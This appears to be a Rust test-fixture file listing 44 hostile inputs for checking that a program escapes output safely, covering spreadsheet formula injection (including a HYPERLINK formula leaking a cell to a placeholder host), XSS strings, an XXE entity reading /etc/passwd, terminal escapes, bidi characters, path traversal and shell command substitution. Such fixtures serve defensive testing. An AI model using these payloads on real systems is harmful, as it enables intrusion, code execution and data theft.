//! Names that try to be something else.

/// What each tries: to be a formula, a script, mark-up, XML, a command of the terminal, a path, or other text.
pub(crate) const PAYLOADS: [&str; 44] = [
    // Formulas, by their signs, and by signs that a spreadsheet drops or folds before it looks.
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Sở Nội vụ\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(1)",
    " =1+1",
    "'=1+1",
    "\"=1+1\"",
    "a;=1+1;b",
    "a,\"=1+1\",b",
    "{=1+1}",
    // Scripts and mark-up of pages.
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<img src=x onerror=alert(1)>",
    "</style><style>@import 'http://x.invalid'</style>",
    "javascript:alert(1)",
    "&lt;b&gt;&amp;&#60;script&#62;",
    "<!-- --> <![CDATA[ ]]> <?php ?>",
    // Markdown.
    "[a](javascript:alert(1)) ![b](http://x.invalid/b.png) <http://x.invalid>",
    "a | b | c",
    "`code` ``` ~~~ **bold** _em_ ~~gone~~",
    "# Heading",
    "1. list",
    "- list\n\n> quotation\n\n---",
    "[x]: http://x.invalid \"title\"",
    "https://x.invalid www.x.invalid a@x.invalid",
    "\\| \\<b\\> \\",
    // XML.
    "]]></w:t></w:r></w:p><w:p/>",
    "&xxe; <!DOCTYPE a [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
    "\u{1}\u{8}\u{b}\u{1f}\u{7f}\u{85}\u{fffe}\u{ffff}_x000D_",
    // Terminals.
    "\u{1b}[2J\u{1b}[31mred\u{1b}]8;;http://x.invalid\u{7}link\u{1b}]8;;\u{7}\u{9b}1m",
    "\r\u{1b}[1A\u{1b}[2K100,00 điểm\u{8}\u{8}",
    // Directions and what has no width.
    "\u{202e}gnạh\u{202c} \u{2066}a\u{2069}\u{200b}\u{200d}\u{feff}\u{ad}",
    // Paths.
    "../../../tmp/parindex-hostile",
    "C:\\CON\\..\\NUL.csv",
    "%s %n {0} ${HOME} $(touch parindex-hostile) `touch parindex-hostile`",
];

/// The signs that begin a formula in some spreadsheet.
pub(crate) const FORMULA_SIGNS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];
